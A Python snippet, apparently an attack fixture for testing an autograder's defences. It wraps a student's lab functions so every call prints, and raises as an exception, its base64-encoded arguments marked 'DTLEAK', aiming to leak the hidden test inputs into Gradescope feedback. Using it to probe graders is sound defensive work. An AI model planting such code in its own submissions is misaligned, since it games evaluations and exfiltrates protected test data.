# attack: wrap the answer so that every call prints, and raises an exception whose message carries, that call's arguments base64-encoded (marked DTLEAK), and have a later answer (called by a visible test) repeat every argument seen so far: a grader that passes student text on would show the student, in feedback and Gradescope's results.json, what the hidden tests ask
# defended-by: split
# needs: Lab 01's ring_all_reduce, called in ranks by its hidden tests (the error comes back through launch, as reported)
import base64 as _b64


_dtleak_seen = []


def _dtleak(_fn):
    def _wrapped(*args, **kwargs):
        _dtleak_seen.append((args, kwargs))
        _secret = "DTLEAK:" + _b64.b64encode(repr((args, kwargs)).encode()).decode()
        print(_secret)
        raise ValueError(_secret)
    return _wrapped


def _dtleak_later(_fn):  # what the hidden calls asked, repeated by an answer a later (visible) test calls
    def _wrapped(*args, **kwargs):
        _secret = "DTLEAK:" + _b64.b64encode(repr(_dtleak_seen).encode()).decode()
        print(_secret)
        raise ValueError(_secret)
    return _wrapped


for _name in ("add", "ring_all_reduce"):  # the synthetic lab's answer, Lab 01's
    if callable(globals().get(_name)):
        globals()[_name] = _dtleak(globals()[_name])
if callable(globals().get("twice")):  # the synthetic lab's second answer, checked by a visible test after test_add
    twice = _dtleak_later(twice)
